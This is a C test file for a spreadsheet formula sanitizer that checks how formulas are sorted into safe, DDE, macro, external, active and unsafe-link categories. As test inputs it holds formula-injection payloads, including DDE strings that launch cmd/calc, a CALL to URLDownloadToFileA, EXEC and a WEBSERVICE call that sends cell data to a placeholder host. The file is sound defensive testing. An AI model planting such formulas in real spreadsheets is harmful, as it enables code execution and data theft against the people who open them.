/* SPDX-License-Identifier: Apache-2.0 */
#include "disarm/formula.h"

#include <string.h>

#define EXTERNAL SK_ELEMENT_EXTERNAL_FORMULA
#define ACTIVE SK_ELEMENT_ACTIVE_FORMULA
#define UNKNOWN SK_ELEMENT_UNKNOWN_FORMULA
#define DDE SK_ELEMENT_DDE_FIELD
#define MACRO SK_ELEMENT_XLM_MACRO
#define UNSAFE SK_ELEMENT_UNSAFE_HYPERLINK
#define LINK SK_ELEMENT_HYPERLINK

static bool
is_sheet(const void *user, SkSpan name)
{
    (void)user;
    return sk_span_is(name, "Sheet1") || sk_span_is(name, "Sheet2") || sk_span_is(name, "様式 1") ||
           sk_span_is(name, "集計") || sk_span_is(name, "it's");
}

static bool
is_lost(const void *user, SkSpan name)
{
    (void)user;
    return sk_span_is(name, "gone");
}

static SkElement
fate(const char *text, bool links, unsigned *ret_links)
{
    SkFormulaBook book = { .links = links, .is_sheet = is_sheet, .is_lost = is_lost };
    return sk_formula(&book, sk_span_str(text), ret_links);
}

static void
test_stays(void)
{
    static const char *const cases[] = {
        "A1",
        " A1 ",
        "$A$1:B$2",
        "A:A",
        "1:5",
        "$1:$5",
        "-1",
        "+-+1",
        "1+2*3^4/5&6",
        "1.5E+10%",
        ".5",
        "1.",
        "A1<>B1",
        "A1>=B1",
        "\"a\"",
        "\"\"\"\"",
        "\"cmd|'/c calc'!A0\"", /* a text is a text */
        "SUM(A1:A10)",
        "sum(a1,,b1)",
        "SUM()",
        "IF(A1,,)",
        "SUM (A1)",
        "IF(A1=1,\"はい\",\"いいえ\")",
        "Sheet1!A1+Sheet2!$B$2",
        "'様式 1'!A1",
        "'様式 1:集計'!A1",
        "Sheet1:Sheet2!A1",
        "'it''s'!A1",
        "集計!B5",
        "集計!1:5",
        "Sheet1!$A:$A,Sheet1!$1:$1",
        "(A1,B2)",
        "A1:B2 B1:C3",
        "(A1 )",
        "#REF!",
        "#REF!A1",
        "#REF!$A$1:$B$2",
        "Sheet1!#REF!",
        "#N/A",
        "{1,2;3,4}",
        "{ -1 , \"a\" ; TRUE , #N/A }",
        "SUM({1,2})",
        "Table1[#All]",
        "Table1[[#This Row],[単価 '[円']]]",
        "SUM(テーブル1[金額])",
        "Table1[[a]:[b]]",
        "_xlfn.XLOOKUP(A1,B:B,C:C)",
        "_xlfn._xlws.SORT(A1:A3)",
        "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)",
        "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(1))",
        "_xlfn.MAP(A1:A3,_xleta.ABS)",
        "_xlfn.REDUCE(0,A1:A3,_xlfn._xleta.Sum)",
        "_xlfn.ANCHORARRAY(A1)",
        "A1#",
        "A1 #REF!",
        "Sheet1!_xlnm.Print_Area",
        "Sheet1!1 (2)",
        "#REF!A1 B1",
        "@A1",
        "PHONETIC(A1)&ASC(A2)&JIS(A3)&YEN(1)&DATESTRING(1)&NUMBERSTRING(1,1)",
        "CELL(\"filename\",A1)",
        "INDIRECT(\"Sheet1!\"&A1)",
        "HYPERLINK(\"#Sheet1!A1\",\"x\")",
        "HYPERLINK( \"#'\"&A1&\"'!A1\")",
        "税率*1.1",
        "単価（税込）*2",
        "a.b_c?",
        "1\n+\t2\r",
        "TRUE",
        "A1=\"=\"",
    };
    unsigned links = 0;
    for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
        SkElement element = fate(cases[i], false, &links);
        if (element != SK_ELEMENT_NONE)
            g_test_fail_printf("'%s' goes as %s", cases[i], sk_element_get(element)->code);
        g_assert_cmpuint(links, ==, 0);
    }
}

static void
test_goes(void)
{
    static const struct {
        const char *text;
        SkElement element;
    } cases[] = {
        { "", UNKNOWN },
        { " ", UNKNOWN },
        { "=A1", UNKNOWN },
        { "A1 B1 +", UNKNOWN },
        { "(A1", UNKNOWN },
        { "A1)", UNKNOWN },
        { "SUM(A1", UNKNOWN },
        { "1 + * 2", UNKNOWN },
        { "A1 #", UNKNOWN },
        { "MAP(A1,Sheet1!_xleta.HYPERLINK)", UNKNOWN },
        { "'Sheet1'!_XLFN.WEBSERVICE", UNKNOWN },
        { "#REF!_xlws.SORT", UNKNOWN },
        { "SUM(+,1)", UNKNOWN },
        { "SUM(1+,2)", UNKNOWN },
        { "#REF!A1 (1)", UNKNOWN },
        { "Sheet1!#REF!A1", UNKNOWN },
        { "INDIRECT(INDEX({\"[a.xlsx]S!A1\"},1))", EXTERNAL },
        { "1A", UNKNOWN },
        { "1E", UNKNOWN },
        { "\"open", UNKNOWN },
        { "{1,2", UNKNOWN },
        { "{A1}", UNKNOWN },
        { "{{1}}", UNKNOWN },
        { "#NOPE!", UNKNOWN },
        { "A1;B1", UNKNOWN },
        { "~A1", UNKNOWN },
        { "cmd|'/c calc'!A0", DDE },
        { "+cmd|'/c calc'!A0", DDE },
        { "'cmd'|'/c calc'!A0", DDE },
        { "'cmd|/c calc'!A0", EXTERNAL },
        { "SUM(1,DDE(\"soffice\",\"x\",\"y\"))", DDE },
        { "MSEXCEL|'\\..\\..\\x'!''", DDE },
        { "cmd ｜'x'!A0", UNKNOWN },
        { "[1]Sheet1!A1", EXTERNAL },
        { "'[1]Sheet1'!A1", EXTERNAL },
        { "'[b.xlsx]Sheet1'!A1", EXTERNAL },
        { "'C:\\x\\[b.xlsx]Sheet1'!A1", EXTERNAL },
        { "'\\\\server\\share\\[b.xlsx]S'!A1", EXTERNAL },
        { "'file:///c:/x'#$S.A1", UNKNOWN },
        { "Elsewhere!A1", EXTERNAL },
        { "'Sheet1:Elsewhere'!A1", EXTERNAL },
        { "[1]!name", EXTERNAL },
        { "Table1[a]!A1", EXTERNAL },
        { "Table1[a]Sheet1!A1", EXTERNAL },
        { "x[1]'Sheet1'!A1", EXTERNAL },
        { "T[a|b]", DDE },
        { "T[a'|b]", DDE },
        { "T[a'\n]", UNKNOWN },
        { "T[\\\\h\\s]", EXTERNAL },
        { "T[[[a]]]", UNKNOWN },
        { "\\\\server\\x", EXTERNAL },
        { "Sheet1!SUM(A1)", UNKNOWN },
        { "Sheet1!CALL (A1)", UNKNOWN },
        { "Sheet1!!A1", UNKNOWN },
        { "Sheet1! A1", UNKNOWN },
        { "!A1", EXTERNAL },
        { "''!A1", UNKNOWN },
        { "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x\",\"y\",0,0)", MACRO },
        { "_xlfn.CALL(1)", MACRO },
        { "REGISTER(\"k\",\"x\")", MACRO },
        { "REGISTER.ID(\"k\",\"x\")", MACRO },
        { "EXEC(\"calc\")", MACRO },
        { "exec (\"calc\")", MACRO },
        { "EVALUATE(A1)", MACRO },
        { "GET.WORKBOOK(1)", MACRO },
        { "GET.CELL(6,A1)", MACRO },
        { "WEBSERVICE(\"http://x/\"&A1)", ACTIVE },
        { "_xlfn.WEBSERVICE(\"http://x\")", ACTIVE },
        { "IF(1,_xlfn.WEBSERVICE(A1))", ACTIVE },
        { "RTD(\"x\",,\"y\")", ACTIVE },
        { "_xlfn.IMAGE(\"http://x\")", ACTIVE },
        { "_xlfn.STOCKHISTORY(\"x\",1)", ACTIVE },
        { "CUBEVALUE(\"c\",\"[x]\")", ACTIVE },
        { "SQL.REQUEST(\"DSN=x\")", ACTIVE },
        { "MAP(A1:A3,_xleta.WEBSERVICE)", ACTIVE },
        { "LET(_xlpm.f,_xlfn._XLETA.Image,_xlpm.f(A1))", ACTIVE },
        { "MAP(A1:A3,_xleta.HYPERLINK)", ACTIVE },
        { "MAP(A1:A3,_xleta.INDIRECT)", ACTIVE },
        { "_xleta._xlpm.f", UNKNOWN },
        { "_xleta.", UNKNOWN },
        { "_xlfn.(1)", UNKNOWN },
        { "_xlfn.WEBSERVICE", ACTIVE },
        { "_xlfn._xlws.NEW", UNKNOWN },
        { "_xll.Addin(1)", UNKNOWN },
        { "_xludf.x(1)", UNKNOWN },
        { "MyUdf(A1)", UNKNOWN },
        { "INFO(\"directory\")", UNKNOWN },
        { "ＷＥＢＳＥＲＶＩＣＥ(A1)", UNKNOWN },
        { "INDIRECT(\"[b.xlsx]S!A1\")", EXTERNAL },
        { "INDIRECT(\"'file:///x'#$S.A1\")", EXTERNAL },
        { "INDIRECT(\"\\\\h\\s\\\"&A1)", EXTERNAL },
        { "\"a|b\"&INDIRECT(A1)", EXTERNAL },
        { "HYPERLINK(A1)", UNSAFE },
        { "HYPERLINK()", UNSAFE },
        { "HYPERLINK(\"file:///c:/x\")", UNSAFE },
        { "HYPERLINK(\"\\\\h\\s\")", UNSAFE },
        { "HYPERLINK(\"javascript:x\")", UNSAFE },
        { "HYPERLINK(\"http://h/?\"&A1)", UNSAFE },
        { "HYPERLINK(\"http://u@h/\")", UNSAFE },
        { "HYPERLINK(\"http://h\\x\")", UNSAFE },
        { "HYPERLINK(\"http:h\")", UNSAFE },
        { "HYPERLINK(\"http://h:123456/\")", UNSAFE },
        { "HYPERLINK((\"http://h/\"))", UNSAFE },
        { "_xlfn.HYPERLINK(A1)", UNSAFE },
        { "HYPERLINK(\"http://h/\")", LINK },
        { "gone+1", UNKNOWN },
        { "Sheet1!gone", UNKNOWN },
        { "A1\x01", UNKNOWN },
        { "A1\xff", UNKNOWN },
        { "A1\xe3\x80\x80", UNKNOWN },
        { "A1\xe2\x80\xae", UNKNOWN },
    };
    unsigned links = 0;
    for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
        SkElement element = fate(cases[i].text, false, &links);
        if (element != cases[i].element)
            g_test_fail_printf("'%s' goes as %s", cases[i].text, sk_element_get(element)->code);
    }
}

static void
test_links(void)
{
    unsigned links = 0;

    g_assert_cmpint(fate("HYPERLINK(\"http://h/a b\")", true, &links), ==, UNSAFE);
    g_assert_cmpint(fate("HYPERLINK(\"HTTPS://例え.jp:8080?x\",A1)&HYPERLINK(\"mailto:a@b\")", true, &links), ==, SK_ELEMENT_NONE);
    g_assert_cmpuint(links, ==, 2);
    g_assert_cmpint(fate("HYPERLINK(\"http://h\" ,1)", true, &links), ==, SK_ELEMENT_NONE);
    g_assert_cmpuint(links, ==, 1);
}

static void
test_bounds(void)
{
    g_autoptr(GString) s = g_string_new(NULL);
    unsigned links = 0;

    for (unsigned i = 0; i < 128; i++)
        g_string_append_c(s, '(');
    g_string_append_c(s, '1');
    for (unsigned i = 0; i < 128; i++)
        g_string_append_c(s, ')');
    g_assert_cmpint(fate(s->str, true, &links), ==, SK_ELEMENT_NONE);
    g_string_prepend_c(s, '(');
    g_string_append_c(s, ')');
    g_assert_cmpint(fate(s->str, true, &links), ==, UNKNOWN);
    g_string_assign(s, "\"");
    while (s->len < SK_FORMULA_MAX - 1)
        g_string_append_c(s, 'a');
    g_string_append_c(s, '"');
    g_assert_cmpint(fate(s->str, true, &links), ==, SK_ELEMENT_NONE);
    g_string_append_c(s, ' ');
    g_assert_cmpint(fate(s->str, true, &links), ==, UNKNOWN);
    g_string_assign(s, "a");
    while (s->len < 255)
        g_string_append_c(s, 'b');
    g_assert_cmpint(fate(s->str, true, &links), ==, SK_ELEMENT_NONE);
    g_string_append_c(s, 'b');
    g_assert_cmpint(fate(s->str, true, &links), ==, UNKNOWN);
    g_string_append(s, "(1)");
    g_assert_cmpint(fate(s->str, true, &links), ==, UNKNOWN);
    g_string_prepend_c(s, '\'');
    g_string_append(s, "''''''''''''''''''''''''''''''''''''''''''''''''");
    while (s->len < 600)
        g_string_append_c(s, 'c');
    g_string_append(s, "'!A1");
    g_assert_cmpint(fate(s->str, true, &links), ==, EXTERNAL);
}

static void
test_names(void)
{
    static const char *const good[] = { "a", "税率", "_xlnm.Print_Area", "_x.1", "autos", "_xlnm._FilterDatabase", "x?" };
    static const char *const bad[] = { "", "1a", "a b", "a$b", "a!b", "[a]", "a|b", "Auto_Open", "AUTO_close", "auto_", "_xlnm.Auto_Open",
                                       "_XLNM.AUTO_OPEN2", "ａｕｔｏ＿ｏｐｅｎ", "Ａuto_x", "a\\b", "a\xe2\x80\x8b" };

    for (size_t i = 0; i < G_N_ELEMENTS(good); i++)
        g_assert_true(sk_formula_is_name(sk_span_str(good[i])));
    for (size_t i = 0; i < G_N_ELEMENTS(bad); i++)
        g_assert_false(sk_formula_is_name(sk_span_str(bad[i])));
    g_assert_true(sk_formula_starts_macro(sk_span_str("ａｕｔｏ＿ｏｐｅｎ")));
    g_assert_true(sk_formula_is_error(sk_span_str("#DIV/0!")));
    g_assert_false(sk_formula_is_error(sk_span_str("#DIV/0!x")));
    g_assert_false(sk_formula_is_error(SK_SPAN_EMPTY));
}

int
main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/formula/stays", test_stays);
    g_test_add_func("/formula/goes", test_goes);
    g_test_add_func("/formula/links", test_links);
    g_test_add_func("/formula/bounds", test_bounds);
    g_test_add_func("/formula/names", test_names);
    return g_test_run();
}
